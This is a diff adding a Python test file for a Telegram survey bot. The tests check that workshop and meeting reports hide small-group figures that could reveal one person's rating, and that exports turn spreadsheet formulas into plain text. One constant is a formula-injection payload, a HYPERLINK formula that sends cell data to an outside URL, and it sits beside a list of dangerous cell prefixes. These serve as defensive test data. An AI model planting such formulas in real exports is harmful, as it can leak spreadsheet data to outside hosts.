@@ -1,0 +1,276 @@
+"""Issue #13: reports that cannot be undone by subtraction, and exports that cannot attack the
+reader. Three women from Puno rate a workshop 5 and one man from Cusco rates it 1: no report
+may show a figure from which his rating follows (4×4 − 3×5 = 1). A survey comment, a workshop
+title and a delegate's name written as spreadsheet formulas arrive as text in every export."""
+
+from __future__ import annotations
+
+import csv
+import zipfile
+from datetime import datetime, timedelta
+from io import BytesIO
+from pathlib import Path
+from zoneinfo import ZoneInfo
+
+from openpyxl import load_workbook
+from telegram.ext import Application
+
+from bot.i18n import translator
+from bot.local_api import LocalBotApi
+from bot.outbox import tick
+from bot.runtime import Runtime
+from bot.services.indicators import build_report as build_indicators
+from bot.services.indicators.charts import chart_images
+from bot.services.indicators.common import Period
+from bot.services.indicators.render import write_csv
+from bot.services.indicators.training import training
+from bot.services.indicators.xlsx import report_xlsx as indicators_xlsx
+from bot.services.meeting_report import build_report as build_meeting_report
+from bot.services.meeting_xlsx import report_xlsx as meeting_xlsx
+from bot.services.workshops import SURVEY_OPEN_FOR
+from storage.db import Database
+from storage.models import Person, Workshop, WorkshopAttendance, WorkshopRating
+from storage.repositories import meetings, people
+from storage.repositories import workshops as repo
+from tests.chat import Person as Chatter
+from tests.helpers import register
+
+LIMA = ZoneInfo("America/Lima")
+T = translator("es", LIMA)
+FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"Ver")'
+DANGEROUS = [FORMULA, "+51 999", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]
+
+
+def test_as_text() -> None:
+    from bot.services.spreadsheet import as_text
+
+    assert [as_text(value) for value in DANGEROUS] == [f"'{value}" for value in DANGEROUS]
+    assert as_text("Puno") == "Puno" and as_text(-1) == -1 and as_text(None) is None
+    assert as_text("—") == "—" and as_text("") == ""
+
+
+def _formulas(workbook: bytes) -> list[str]:
+    """Every sheet's XML: a cell stored as a formula has an <f> element."""
+    with zipfile.ZipFile(BytesIO(workbook)) as archive:
+        return [
+            name
+            for name in archive.namelist()
+            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
+        ]
+
+
+def _texts(workbook: bytes) -> list[tuple[str, str]]:
+    """(value, data_type) of every non-empty cell, as openpyxl reads the file back."""
+    book = load_workbook(BytesIO(workbook))
+    return [
+        (cell.value, cell.data_type)
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if isinstance(cell.value, str)
+    ]
+
+
+def _assert_formula_is_text(workbook: bytes) -> None:
+    assert _formulas(workbook) == []
+    texts = _texts(workbook)
+    assert (FORMULA, "s") in texts, texts
+    assert all(data_type == "s" for value, data_type in texts if value.startswith("=")), texts
+
+
+# --- /taller, end to end ---------------------------------------------------------------------
+
+
+async def test_workshop_report_cannot_be_subtracted(
+    api: LocalBotApi, app: Application, runtime: Runtime
+) -> None:
+    from tests.conftest import ADMIN_ID
+
+    rosa = Chatter(api, ADMIN_ID, "Rosa", last_name="Huamán")
+    await register(rosa, region="MINEM")
+    now = runtime.clock.now()
+    async with runtime.db.session() as session:
+        workshop = await repo.create(
+            session,
+            code="SUB234",
+            title="Cierre de minas",
+            starts_at=now + timedelta(minutes=30),
+            ends_at=now + timedelta(hours=2),
+            survey_closes_at=now + timedelta(hours=2) + SURVEY_OPEN_FOR,
+            region_code="puno",
+        )
+    raters = [
+        (Chatter(api, 6201, "Ana"), "Puno", "Mujer", "5"),
+        (Chatter(api, 6202, "Bea"), "Puno", "Mujer", "5"),
+        (Chatter(api, 6203, "Clara"), "Puno", "Mujer", "5"),
+        (Chatter(api, 6204, "Diego"), "Cusco", "Hombre", "1"),
+    ]
+    runtime.clock.advance(timedelta(minutes=30))
+    for person, region, sex, _score in raters:
+        await register(person, region=region, sex=sex)
+        await person.say(f"/asistencia {workshop.code}")
+    runtime.clock.advance(timedelta(hours=3))
+    assert await tick(app) == 4
+    for number, (person, _region, _sex, score) in enumerate(raters):
+        survey = await person.reply()
+        for _question in range(5):
+            await person.press(survey, score)
+            survey = await person.reply()
+        if number == 0:
+            await person.send(FORMULA)
+        else:
+            await person.press(survey, "Omitir")
+        await person.reply()
+
+    (report,) = await rosa.say(f"/taller {workshop.code}")
+    text = report.text
+    assert "Asistentes: 4 · Respuestas: 4" in text
+    assert "Calificación general: 4,0 (—)" in text  # the total stays; 1·0·0·0·3 does not
+    assert "0·0·0" not in text
+    for group in ("Mujer", "Hombre", "Puno", "Cusco"):
+        assert f"{group}: — (" in text, group
+    assert "5,0" not in text and "1,0" not in text
+
+    await rosa.press(report, "Descargar XLSX")
+    document = await rosa.reply()
+    workbook = api.files[document.params["file_id"]]
+    _assert_formula_is_text(workbook)
+    book = load_workbook(BytesIO(workbook))
+    assert book["Comentarios"]["B2"].value == FORMULA
+    assert book["Comentarios"]["B2"].data_type == "s"
+    criteria = next(iter(book["Criterios"].iter_rows(min_row=2, max_row=2, values_only=True)))
+    assert criteria == (T.gettext("Overall rating"), 4.0, 4, "—", "—", "—", "—", "—")
+    for title in ("Por sexo", "Por región"):
+        rows = list(book[title].iter_rows(min_row=2, values_only=True))
+        assert [row[3] for row in rows] == ["—"] * len(rows), title
+
+
+# --- Indicator 3, the workbook and the CSV folder ------------------------------------------
+
+
+async def _ratings(db: Database) -> None:
+    """The same four raters, in a workshop of 2026 whose title is a formula."""
+    starts = datetime(2026, 3, 10, 9, tzinfo=LIMA)
+    async with db.session() as session:
+        session.add(
+            Workshop(
+                id=1, code="SUB234", title=FORMULA, region_code="puno", starts_at=starts,
+                ends_at=starts + timedelta(hours=3), survey_closes_at=starts + timedelta(days=3),
+            )
+        )  # fmt: skip
+        for number, (sex, region, score) in enumerate(
+            [("female", "puno", 5)] * 3 + [("male", "cusco", 1)], start=1
+        ):
+            session.add(
+                Person(
+                    id=number, telegram_id=7000 + number, full_name=f"P{number}", sex=sex,
+                    region_code=region, consent_at=starts - timedelta(days=9),
+                    registered_at=starts - timedelta(days=9),
+                )
+            )  # fmt: skip
+            await session.flush()
+            session.add(WorkshopAttendance(workshop_id=1, person_id=number))
+            session.add(
+                WorkshopRating(
+                    workshop_id=1, person_id=number, overall=score, content=score,
+                    facilitation=score, usefulness=score, organization=score,
+                    completed_at=starts + timedelta(hours=4),
+                )
+            )  # fmt: skip
+
+
+async def test_indicator_3_cannot_be_subtracted(db: Database, tmp_path: Path) -> None:
+    await _ratings(db)
+    async with db.session() as session:
+        report = await build_indicators(
+            session, Period.year(2026), None, T, datetime(2026, 12, 4, tzinfo=LIMA)
+        )
+    indicator = next(i for i in report.indicators if i.number == 3)
+    criteria, distribution, by_region, by_sex, workshops = indicator.tables
+    assert indicator.headlines[-1].value == 4.0  # the total, over 4 people
+    assert [row[1] for row in criteria.rows] == [4.0] * 5
+    assert [row[1:] for row in distribution.rows] == [(None, None)] * 5  # 1·0·0·0·3: hidden
+    # Attendees, raters, response rate, responses, the five averages.
+    averages = (None,) * 5
+    assert list(by_region.rows) == [
+        ("Cusco", 1, 1, None, 1, *averages),
+        ("Puno", 3, 3, None, 3, *averages),
+        ("Total", 4, 4, 1.0, 4, 4.0, 4.0, 4.0, 4.0, 4.0),
+    ]
+    assert [row[5:] for row in by_sex.rows] == [averages] * 3 + [(4.0,) * 5]
+    assert [row[4:] for row in workshops.rows] == [(4, 4, 1.0, 4.0, 4.0, 4.0, 4.0, 4.0)]
+
+    charts = [image.caption for image in chart_images(report, T)]
+    assert "3. Calificación general: respuestas por puntaje" not in charts  # all hidden
+
+    workbook = indicators_xlsx(report, T)
+    _assert_formula_is_text(workbook)
+    written = write_csv(report, T, tmp_path / "csv")
+    cells = []
+    for path in written:
+        with path.open(encoding="utf-8-sig") as handle:
+            cells += [value for row in csv.reader(handle) for value in row]
+    assert f"'{FORMULA}" in cells
+    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in cells)
+    for value in cells:  # no "5" and "1" figures next to each other survive in region rows
+        assert value not in {"5.0", "1.0"}
+
+
+async def test_indicator_3_in_one_region_alone(db: Database) -> None:
+    """A region's own report (everyone from Puno) shows Puno; Cusco's, nothing."""
+    await _ratings(db)
+    async with db.session() as session:
+        from bot.services.indicators import query_for
+
+        puno = await training(await query_for(session, Period.year(2026), "puno", T))
+        cusco = await training(await query_for(session, Period.year(2026), "cusco", T))
+    assert puno.headlines[-1].value == 5.0
+    assert cusco.headlines[-1].value is None
+    assert [row[5:] for row in cusco.tables[2].rows] == [(None,) * 5] * 2
+
+
+# --- /reunion ------------------------------------------------------------------------------
+
+
+async def test_meeting_report_hides_sex(db: Database) -> None:
+    """Three women and one man from Puno; only he declines. Counts by sex would name him (the
+    invitee list shows who declined), so they are hidden; the list shows no sex."""
+    starts = datetime(2026, 11, 26, 9, tzinfo=LIMA)
+    async with db.session() as session:
+        ids = []
+        for telegram_id, sex in ((1, "female"), (2, "female"), (3, "female"), (4, "male")):
+            person = await people.create(
+                session, telegram_id=telegram_id, username=None,
+                telegram_name=f"Persona {telegram_id}", locale="es",
+                consent_at=starts - timedelta(days=9), role="official",
+            )  # fmt: skip
+            await people.update(
+                session, telegram_id, full_name=f"Persona {telegram_id}", region_code="puno",
+                sex=sex, registered_at=starts - timedelta(days=9),
+            )  # fmt: skip
+            ids.append(person.id)
+        meeting = await meetings.create(
+            session, offsets=[], code="REU777", title="Coordinación", kind="coordinacion",
+            starts_at=starts, ends_at=starts + timedelta(hours=2), place=None, link=None,
+            agenda=None, audience={},
+        )  # fmt: skip
+        await meetings.invite(session, meeting.id, ids)
+        for person_id in ids[:3]:
+            await meetings.answer(session, meeting.id, person_id, "yes", starts)
+        await meetings.answer(
+            session, meeting.id, ids[3], "delegate", starts, delegate_name=FORMULA,
+            delegate_position=None,
+        )  # fmt: skip
+        report = await build_meeting_report(session, meeting.id)
+    assert report is not None
+    assert report.totals.invited == 4
+    assert [group.counts for group in report.by_sex] == [None, None]
+    assert not hasattr(report.invitees[0], "sex")
+    workbook = meeting_xlsx(report, T)
+    _assert_formula_is_text(workbook)
+    book = load_workbook(BytesIO(workbook))
+    assert T.gettext("Sex") not in [cell.value for cell in book["Invitados"][1]]
+    by_sex = list(book["Por sexo"].iter_rows(min_row=2, values_only=True))
+    assert by_sex == [("Mujer", *["—"] * 6), ("Hombre", *["—"] * 6)]
+    delegate = book["Invitados"]["D5"]
+    assert (delegate.value, delegate.data_type) == (FORMULA, "s")
